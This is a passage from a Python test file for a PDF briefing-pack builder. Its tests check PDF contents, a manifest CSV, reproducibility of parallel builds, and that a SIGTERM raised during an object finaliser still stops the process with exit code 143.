        reader = PdfReader(folder / f"person-{n:02d}.pdf")
        assert f"Prepared for Person {n:02d}" in reader.pages[0].extract_text()
        assert f"Prepared for Person {n:02d}" in reader.pages[-1].extract_text()
    rows = list(csv.reader((folder / "manifest.csv").read_text(encoding="utf-8").splitlines()))
    assert [r[0] for r in rows[1:]] == [f"Person {n:02d}" for n in range(8)]

    for p in folder.iterdir():
        p.unlink()
    with ThreadPoolExecutor(2) as threads:
        result = api.build([pack_file], project=project, jobs=2, executor=threads)
    assert result.ok, result.failures
    assert {p.name: p.read_bytes() for p in sorted(folder.iterdir())} == inline


def test_sigterm_during_a_finaliser_still_stops_the_process(tmp_path: Path) -> None:
    """SIGTERM while a `__del__` runs (WeasyPrint's font configuration has one) raises
    Terminated there, where Python would print and ignore it; it is sent again instead, so the
    process still unwinds and exits 143, with nothing on stderr."""
    import sys

    script = (
        "import os, signal, time\n"
        "from briefing.output import terminate_as_exception\n"
        "terminate_as_exception()\n"
        "class Finalised:\n"
        "    def __del__(self):\n"
        "        os.kill(os.getpid(), signal.SIGTERM)\n"
        "        time.sleep(0.2)\n"
        "thing = Finalised()\n"
        "del thing\n"
        "time.sleep(30)\n"
        "print('not stopped')\n"
    )
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                            timeout=60, cwd=tmp_path)
    assert result.returncode == 143, result.stderr
    assert result.stderr == "" and "not stopped" not in result.stdout
